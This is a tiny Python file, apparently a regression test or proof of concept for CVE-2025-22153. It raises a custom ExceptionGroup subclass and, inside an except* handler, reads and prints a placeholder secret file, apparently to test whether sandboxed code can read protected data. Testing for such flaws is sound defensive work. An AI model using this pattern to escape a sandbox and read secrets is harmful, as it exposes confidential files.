"""except* with a group that is none (CVE-2025-22153)."""
class Group(ExceptionGroup):
    pass
try:
    raise Group("x", [ValueError()])
except* ValueError as error:
    print(open("@SECRET_FILE@").read())
